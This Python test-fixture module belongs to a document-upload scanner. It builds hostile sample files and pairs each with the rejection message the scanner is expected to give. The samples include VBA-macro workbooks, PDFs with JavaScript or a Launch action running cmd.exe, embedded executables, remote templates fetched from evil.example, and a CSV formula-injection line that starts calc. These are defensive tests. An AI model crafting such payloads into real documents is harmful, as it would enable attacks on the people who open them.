"""What acts when it is opened, what is packed in, and what is locked."""

from tests.evidence import good_files as good
from tests.evidence import pdf_files as pdfs
from tests.evidence.good_files import XML, added, zipped
from tests.evidence.hostile.case import (
    ACTS,
    EXE,
    FETCHES,
    FORMULA,
    INNER_PROGRAM,
    MACROS,
    SEALED,
    Hostile,
    document_with,
    inside,
    relation,
    workbook_with,
)
from tests.evidence.ole_files import old_document, old_slides, old_workbook, ole

ACTION = b"/OpenAction << /S /%s /JS (app.alert(1)) >>"


def attached_pdf() -> bytes:
    return pdfs.pdf_of(
        b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
        b"<< /Type /Filespec /F (run.exe) /UF (run.exe) /EF << /F 5 0 R >> >>",
        pdfs.stream(b"/Type /EmbeddedFile", b"MZ"),
    )


def sealed_zip() -> bytes:
    """The bit that says encrypted, in the member's own head and in the directory."""
    plain = bytearray(zipped({"a.txt": b"secret"}))
    plain[6] |= 1
    plain[plain.index(b"PK\x01\x02") + 8] |= 1
    return bytes(plain)


FILES = [
    # Macros.
    Hostile("macro file by ending", "台账.xlsm", good.workbook, MACROS),
    Hostile(
        "Word with VBA", "报告.docx", lambda: document_with("word/vbaProject.bin", b"x"), MACROS
    ),
    Hostile(
        "Excel with VBA", "台账.xlsx", lambda: workbook_with("xl/vbaProject.bin", b"x"), MACROS
    ),
    Hostile(
        "VBA elsewhere", "台账.xlsx", lambda: workbook_with("xl/a/VBAPROJECT.BIN", b"x"), MACROS
    ),
    Hostile(
        "Excel 4 macros",
        "台账.xlsx",
        lambda: workbook_with("xl/macrosheets/s1.xml", XML + b"<a/>"),
        MACROS,
    ),
    Hostile(
        "ActiveX", "报告.docx", lambda: document_with("word/activeX/activeX1.bin", b"x"), MACROS
    ),
    Hostile(
        "old Word with VBA",
        "报告.doc",
        lambda: ole({"WordDocument": old_document(), "Macros/VBA": b"x"}),
        MACROS,
    ),
    Hostile(
        "old Excel with VBA",
        "台账.xls",
        lambda: ole({"Workbook": old_workbook(), "_VBA_PROJECT_CUR/a": b"x"}),
        MACROS,
    ),
    Hostile(
        "old Excel 4 macros", "台账.xls", lambda: ole({"Workbook": old_workbook(kind=1)}), MACROS
    ),
    Hostile(
        "old slides with VBA",
        "汇报.ppt",
        lambda: ole({"PowerPoint Document": old_slides(macros=True)}),
        MACROS,
    ),
    Hostile(
        "CSV that starts a program", "台账.csv", lambda: b"a,b\n1,=cmd|'/C calc'!A0\n", FORMULA
    ),
    # Packed in.
    Hostile(
        "packed file in old Word",
        "报告.doc",
        lambda: good.old_word(**{"\x01Ole10Native": b"x"}),
        "{file} carries a packed file in it: take that out first.",
    ),
    Hostile(
        "packed object in Word",
        "报告.docx",
        lambda: document_with("word/embeddings/oleObject1.bin", ole({"\x01Ole10Native": b"x"})),
        "{file} carries a packed file in it: take that out first.",
        inside("报告.docx", "word/embeddings/oleObject1.bin"),
    ),
    Hostile(
        "workbook with macros in Word",
        "报告.docx",
        lambda: document_with("word/embeddings/b.xlsx", workbook_with("xl/vbaProject.bin", b"x")),
        MACROS,
        inside("报告.docx", "word/embeddings/b.xlsx"),
    ),
    Hostile(
        "program in Word",
        "报告.docx",
        lambda: document_with("word/media/image1.png", EXE),
        INNER_PROGRAM,
    ),
    Hostile(
        "program in OFD",
        "发票.ofd",
        lambda: added(good.ofd(), {"Doc_0/Res/a.png": EXE}),
        INNER_PROGRAM,
    ),
    Hostile(
        "any file in Word",
        "报告.docx",
        lambda: document_with("word/embeddings/run.exe", EXE),
        "{file} carries the file “run.exe” in it: take that out first.",
    ),
    Hostile(
        "program in PDF",
        "报告.pdf",
        attached_pdf,
        "{file} carries the file “run.exe” in it: take that out first.",
    ),
    Hostile(
        "far template",
        "报告.docx",
        lambda: relation(b"http://evil.example/t.dotm", b"attachedTemplate"),
        FETCHES,
    ),
    Hostile(
        "template on a share",
        "报告.docx",
        lambda: relation(b"\\\\10.0.0.1\\t.dotm", b"attachedTemplate"),
        FETCHES,
    ),
    Hostile(
        "far object",
        "报告.docx",
        lambda: relation(b"mhtml:http://evil.example/x!x", b"oleObject"),
        FETCHES,
    ),
    Hostile(
        "far frame", "报告.docx", lambda: relation(b"https://evil.example/", b"frame"), FETCHES
    ),
    # PDF that acts.
    Hostile("JavaScript in PDF", "报告.pdf", lambda: pdfs.pdf_of(ACTION % b"JavaScript"), ACTS),
    Hostile(
        "JavaScript spelt otherwise",
        "报告.pdf",
        lambda: pdfs.pdf_of(ACTION % b"J#61vaScrip#74"),
        ACTS,
    ),
    Hostile("JavaScript packed", "报告.pdf", pdfs.packed_action, ACTS),
    Hostile(
        "JavaScript packed and encrypted",
        "报告.pdf",
        lambda: pdfs.half_sealed_pdf(b"<< /S /JavaScript /JS (1) >>"),
        ACTS,
    ),
    Hostile(
        "Launch in PDF",
        "报告.pdf",
        lambda: pdfs.pdf_of(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        ACTS,
    ),
    # Passwords.
    Hostile("PDF with password", "报告.pdf", pdfs.sealed_pdf, SEALED),
    Hostile(
        "Word with password",
        "报告.docx",
        lambda: ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
        SEALED,
    ),
    Hostile(
        "old Word with password",
        "报告.doc",
        lambda: ole({"WordDocument": old_document(sealed=True)}),
        SEALED,
    ),
    Hostile(
        "old Excel with password",
        "台账.xls",
        lambda: ole({"Workbook": old_workbook(sealed=True)}),
        SEALED,
    ),
    Hostile(
        "old slides with password",
        "汇报.ppt",
        lambda: ole({"PowerPoint Document": old_slides(), "EncryptedSummary": b"x"}),
        SEALED,
    ),
    Hostile("ZIP with password", "附件.zip", sealed_zip, SEALED),
]
